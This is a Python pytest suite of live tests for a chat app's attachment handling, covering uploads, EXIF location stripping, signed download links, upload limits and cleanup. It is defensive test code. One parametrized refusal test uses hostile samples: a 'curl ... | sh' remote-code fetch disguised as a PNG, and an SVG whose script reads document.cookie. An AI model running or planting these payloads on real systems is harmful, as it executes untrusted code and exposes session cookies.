"""Files and images over real HTTP and real sockets: upload, send, deliver,
download, resend and resume; and every refusal storing nothing."""

from __future__ import annotations

import asyncio
import io
import json
import re
from pathlib import Path

import aiohttp
import pytest
from PIL import Image

from cs_project.testing.clients import agent, customer, resume
from cs_project.testing.server import LiveServer
from cs_project.testing.waits import eventually

pytestmark = pytest.mark.live

GPS = 0x8825  # the EXIF tag of the GPS block


def jpeg_with_location(size=(640, 480)) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[GPS] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def pdf_bytes() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


async def upload(
    server: LiveServer, name: str, data: bytes, token: str | None = None, headers: dict | None = None
) -> tuple[int, dict]:
    form = aiohttp.FormData()
    form.add_field("file", data, filename=name, content_type="application/octet-stream")
    sent = dict(headers or {})
    if token is not None:
        sent["Authorization"] = f"Bearer {token}"
    async with aiohttp.ClientSession() as http:
        async with http.post(f"{server.url}/api/uploads/", data=form, headers=sent) as response:
            return response.status, await response.json()


async def post_announced(server: LiveServer, size: int, token: str, headers: dict) -> tuple[int, dict]:
    """POST a file of `size` bytes the way HTTP lets a client learn of a
    refusal before it sends it: `Expect: 100-continue`. A server that
    answers from the headers and closes (uvicorn) is read without the race
    of a reset; one that wants the body first (Daphne) says 100 and gets it."""
    host, port = server.url.removeprefix("http://").split(":")
    # Well-formed multipart: Twisted parses it before Daphne hands it on.
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n'
        b"Content-Type: text/plain\r\n\r\n" + b"x" * size + b"\r\n--b--\r\n"
    )
    reader, writer = await asyncio.open_connection(host, int(port))
    lines = [
        "POST /api/uploads/ HTTP/1.1",
        f"Host: {host}:{port}",
        f"Authorization: Bearer {token}",
        "Content-Type: multipart/form-data; boundary=b",
        f"Content-Length: {len(body)}",
        "Expect: 100-continue",
        "Connection: close",
        *(f"{name}: {value}" for name, value in headers.items()),
    ]
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
    await writer.drain()
    head = await reader.readuntil(b"\r\n\r\n")
    if head.split(b" ")[1] == b"100":
        writer.write(body)
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
    fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n")[1:] if ": " in line)
    length = {name.lower(): value for name, value in fields.items()}.get("content-length")
    answer = await (reader.readexactly(int(length)) if length else reader.read())
    writer.close()
    return int(head.split(b" ")[1]), json.loads(answer)


async def download(server: LiveServer, url: str) -> tuple[int, dict, bytes]:
    async with aiohttp.ClientSession() as http:
        async with http.get(f"{server.url}{url}") as response:
            return response.status, dict(response.headers), await response.read()


def attachments_kept(server: LiveServer) -> list[tuple]:
    return server.query("select id, message_id, file, thumbnail from chat_attachment order by id")


def files_kept(server: LiveServer) -> list[Path]:
    media = server.db_path.parent / "media"
    return sorted(p for p in media.rglob("*") if p.is_file()) if media.exists() else []


async def chat(server: LiveServer):
    ann, _ = await agent(server, "ann")
    carla, join = await customer(server, "Carla")
    conversation_id = join["conversation"]["id"]
    await ann.wait_for("customer:new", lambda n: n["conversation"]["id"] == conversation_id)
    return ann, carla, join


@pytest.mark.parametrize("server", ["daphne", "uvicorn"])
async def test_an_image_from_the_customer_reaches_the_agent_without_its_location(start_chat_server, server):
    chat_server = start_chat_server(server=server)
    ann, carla, join = await chat(chat_server)
    status, body = await upload(chat_server, "holiday.jpg", jpeg_with_location(), token=join["token"])
    assert status == 201, body
    a = body["attachment"]
    assert (a["name"], a["content_type"], a["width"], a["height"]) == ("holiday.jpg", "image/jpeg", 640, 480)
    assert a["thumbnail_url"] and a["url"]

    sent = await carla.call("customer:message", {"text": "", "client_id": "pic-1", "attachment_id": a["id"]})
    assert sent["ok"], sent
    assert sent["message"]["text"] == "" and sent["message"]["attachment"]["id"] == a["id"]
    got = await ann.wait_for("customer:message", lambda m: m["id"] == sent["message"]["id"])
    assert got["attachment"]["name"] == "holiday.jpg"

    status, headers, data = await download(chat_server, got["attachment"]["url"])
    assert status == 200
    assert headers["Content-Type"] == "image/jpeg"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"].startswith("inline")
    image = Image.open(io.BytesIO(data))
    assert image.size == (640, 480)
    assert GPS not in image.getexif() and 0x010F not in image.getexif()
    assert len(data) == a["size"]

    status, headers, data = await download(chat_server, got["attachment"]["thumbnail_url"])
    assert status == 200 and headers["Content-Type"] == "image/webp"
    assert max(Image.open(io.BytesIO(data)).size) == 320

    (row,) = attachments_kept(chat_server)
    assert row[1] == sent["message"]["id"]


async def test_a_pdf_from_the_agent_reaches_the_customer_as_a_download(chat_server):
    ann, carla, join = await chat(chat_server)
    conversation_id = join["conversation"]["id"]
    status, body = await upload(
        chat_server, "invoice.pdf", pdf_bytes(), token=chat_server.agents["ann"]["token"]
    )
    assert status == 201, body
    a = body["attachment"]
    assert (a["content_type"], a["thumbnail_url"], a["width"], a["height"]) == (
        "application/pdf",
        None,
        None,
        None,
    )
    sent = await ann.call(
        "agent:message",
        {
            "conversation_id": conversation_id,
            "text": "Your invoice",
            "client_id": "inv",
            "attachment_id": a["id"],
        },
    )
    assert sent["ok"], sent
    got = await carla.wait_for("agent:message", lambda m: m["id"] == sent["message"]["id"])
    assert got["text"] == "Your invoice" and got["attachment"]["name"] == "invoice.pdf"
    status, headers, data = await download(chat_server, got["attachment"]["url"])
    assert status == 200 and data == pdf_bytes()
    assert headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"].startswith("attachment")
    assert "invoice.pdf" in headers["Content-Disposition"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


async def test_a_resend_is_stored_once_and_a_resume_brings_a_fresh_link(start_chat_server):
    server = start_chat_server(ATTACHMENT_URL_MAX_AGE="2")
    ann, carla, join = await chat(server)
    conversation_id = join["conversation"]["id"]
    _, body = await upload(server, "screen.png", png_bytes(), token=join["token"])
    attachment_id = body["attachment"]["id"]
    payload = {"text": "look", "client_id": "same-1", "attachment_id": attachment_id}
    first = await carla.call("customer:message", payload)
    again = await carla.call("customer:message", payload)
    assert first["ok"] and again["ok"], (first, again)
    assert again["message"]["id"] == first["message"]["id"]
    assert again["message"]["attachment"]["id"] == attachment_id
    count = server.scalar(
        "select count(*) from chat_message where conversation_id=? and client_id='same-1'", (conversation_id,)
    )
    assert count == 1

    # The link expires; a resume replays the message with a new one that works.
    old_url = first["message"]["attachment"]["url"]
    await asyncio.sleep(3.5)
    assert (await download(server, old_url))[0] == 403
    await carla.disconnect()
    _tab, replay = await resume(server, join["token"], join["messages"][-1]["id"] if join["messages"] else 0)
    (again,) = [m for m in replay if m["id"] == first["message"]["id"]]
    assert again["attachment"]["url"] != old_url
    status, _headers, data = await download(server, again["attachment"]["url"])
    assert status == 200 and Image.open(io.BytesIO(data)).size == (300, 200)
    # The agent's console reads the conversation again with fresh links too.
    history = await ann.call("conversation:history", {"customer_id": join["customer"]["id"]})
    (seen,) = [m for m in history["messages"] if m["id"] == first["message"]["id"]]
    assert (await download(server, seen["attachment"]["thumbnail_url"]))[0] == 200


def png_bytes(size=(300, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, (10, 120, 200, 255)).save(out, "PNG")
    return out.getvalue()


# --- refusals: each stores nothing ------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "status", "code"),
    [
        ("evil.png", b"#!/bin/sh\ncurl https://example.com/x | sh\n", 415, "unsupported_type"),
        (
            "drawing.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
            415,
            "unsupported_type",
        ),
        ("fake.jpg", b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 20, 415, "unsupported_type"),
        ("program.exe", b"MZ\x90\x00\x03" + b"\x00" * 100, 415, "unsupported_type"),
        ("big.txt", b"a" * 120_001, 413, "too_large"),
    ],
)
async def test_refused_uploads_keep_nothing(start_chat_server, name, data, status, code):
    server = start_chat_server(UPLOAD_MAX_BYTES="120000")
    _carla, join = await customer(server, "Carla")
    got_status, body = await upload(server, name, data, token=join["token"])
    assert (got_status, body["ok"], body["error"]["code"]) == (status, False, code), body
    assert body["error"]["message"]
    assert attachments_kept(server) == [] and files_kept(server) == []


@pytest.mark.parametrize("server_kind", ["daphne", "uvicorn"])
async def test_a_body_over_the_limit_is_refused_before_it_is_read(start_chat_server, server_kind):
    server = start_chat_server(server=server_kind, UPLOAD_MAX_BYTES="100000")
    _carla, join = await customer(server, "Carla")

    # 20 MB announced and streamed: the answer comes before the body is all sent.
    async def body():
        for _ in range(200):
            yield b"x" * 100_000

    headers = {"Authorization": f"Bearer {join['token']}", "Content-Type": "multipart/form-data; boundary=b"}
    async with aiohttp.ClientSession() as http:
        try:
            async with http.post(f"{server.url}/api/uploads/", data=body(), headers=headers) as response:
                status, answer = response.status, await response.json()
        except aiohttp.ClientError:
            status, answer = None, None  # the server may close before reading it all
    assert status in (413, None)
    if status == 413:
        assert answer["error"]["code"] == "too_large"
    # With its length announced, the answer is a 413 in JSON, in the asker's language.
    status, answer = await post_announced(server, 300_000, join["token"], {"Accept-Language": "zh-CN"})
    assert status == 413
    assert answer["error"]["code"] == "too_large" and re.search(
        r"[\u3400-\u9fff]", answer["error"]["message"]
    )
    assert attachments_kept(server) == [] and files_kept(server) == []


async def test_uploads_need_a_valid_token(chat_server):
    status, body = await upload(chat_server, "a.txt", b"hello")
    assert (status, body["error"]["code"]) == (401, "unauthorized")
    status, body = await upload(chat_server, "a.txt", b"hello", token="not-a-token")
    assert (status, body["error"]["code"]) == (401, "unauthorized")
    status, body = await upload(chat_server, "a.txt", b"hello", headers={"Authorization": "Basic abc"})
    assert (status, body["error"]["code"]) == (401, "unauthorized")
    assert attachments_kept(chat_server) == []


async def test_only_the_uploader_sends_an_attachment_and_only_once(chat_server):
    ann, carla, join = await chat(chat_server)
    conversation_id = join["conversation"]["id"]
    dave, dave_join = await customer(chat_server, "Dave")
    _, body = await upload(chat_server, "carla.png", png_bytes(), token=join["token"])
    carlas = body["attachment"]["id"]
    _, body = await upload(chat_server, "ann.txt", b"notes", token=chat_server.agents["ann"]["token"])
    anns = body["attachment"]["id"]
    messages_before = chat_server.scalar("select count(*) from chat_message")

    refused = [
        await dave.call("customer:message", {"text": "", "attachment_id": carlas}),
        await carla.call("customer:message", {"text": "", "attachment_id": anns}),
        await ann.call(
            "agent:message", {"conversation_id": conversation_id, "text": "x", "attachment_id": carlas}
        ),
        await carla.call("customer:message", {"text": "", "attachment_id": 999999}),
    ]
    assert [r["error"]["code"] for r in refused] == ["forbidden", "forbidden", "forbidden", "not_found"], (
        refused
    )
    assert chat_server.scalar("select count(*) from chat_message") == messages_before

    first = await carla.call("customer:message", {"text": "", "client_id": "c-1", "attachment_id": carlas})
    assert first["ok"], first
    twice = await carla.call("customer:message", {"text": "", "client_id": "c-2", "attachment_id": carlas})
    assert (twice["ok"], twice["error"]["code"]) == (False, "forbidden"), twice
    no_text = await carla.call("customer:message", {"text": ""})
    assert no_text["error"]["code"] == "invalid_payload"
    assert chat_server.scalar("select count(*) from chat_message") == messages_before + 1
    assert (
        chat_server.scalar("select message_id from chat_attachment where id=?", (carlas,))
        == first["message"]["id"]
    )
    assert chat_server.scalar("select message_id from chat_attachment where id=?", (anns,)) is None
    await dave.disconnect()
    del dave_join


async def test_downloads_need_a_valid_signature(chat_server):
    _carla, join = await customer(chat_server, "Carla")
    _, body = await upload(chat_server, "a.txt", b"secret notes", token=join["token"])
    url = body["attachment"]["url"]
    path, _, query = url.partition("?")
    assert (await download(chat_server, url))[0] == 200
    for bad in (path, f"{path}?{query[:-1]}0", path.replace("/file", "/thumbnail") + "?" + query):
        status, _headers, data = await download(chat_server, bad)
        assert status == 403 and b"secret" not in data, bad
    other_id = path.replace(f"/{body['attachment']['id']}/", f"/{body['attachment']['id'] + 1}/")
    assert (await download(chat_server, f"{other_id}?{query}"))[0] == 403


async def test_the_sweeper_deletes_uploads_never_sent_with_their_files(start_chat_server):
    server = start_chat_server(UPLOAD_UNSENT_MAX_AGE="1", RETENTION_INTERVAL_SECONDS="0.3")
    ann, carla, join = await chat(server)  # a socket starts the sweeper
    _, kept = await upload(server, "kept.png", png_bytes(), token=join["token"])
    sent = await carla.call("customer:message", {"text": "", "attachment_id": kept["attachment"]["id"]})
    assert sent["ok"], sent
    _, unsent = await upload(server, "unsent.png", png_bytes(), token=join["token"])
    assert len(files_kept(server)) == 4

    def swept():
        rows = attachments_kept(server)
        return [r[0] for r in rows] == [kept["attachment"]["id"]] and len(files_kept(server)) == 2

    await eventually(swept, timeout=10, what="the unsent upload deleted")
    assert (await download(server, unsent["attachment"]["url"]))[0] == 404
    assert (await download(server, kept["attachment"]["url"]))[0] == 200
    del ann


async def test_a_file_missing_from_the_storage_is_not_found(chat_server):
    _carla, join = await customer(chat_server, "Carla")
    _, body = await upload(chat_server, "notes.txt", b"kept for a while", token=join["token"])
    (path,) = files_kept(chat_server)
    path.unlink()
    # Answered before any byte is sent: a 404, not a 200 that breaks off.
    status, headers, _data = await download(chat_server, body["attachment"]["url"])
    assert (status, headers["Content-Type"]) == (404, "application/json")


async def test_uploads_past_the_limits_are_refused_and_keep_nothing(start_chat_server):
    server = start_chat_server(LIMIT_UPLOADS_PER_CUSTOMER="2", LIMIT_UPLOADS_PER_IP="4")
    _carla, carla = await customer(server, "Carla")
    _dave, dave = await customer(server, "Dave")
    statuses = [(await upload(server, f"{i}.txt", b"note", token=carla["token"]))[0] for i in range(3)]
    assert statuses == [201, 201, 429]
    # Every attempt counts against the address: one more for another customer, then none.
    assert (await upload(server, "d1.txt", b"note", token=dave["token"]))[0] == 201
    status, body = await upload(server, "d2.txt", b"note", token=dave["token"])
    assert (status, body["error"]["code"]) == (429, "rate_limited")
    assert len(attachments_kept(server)) == 3
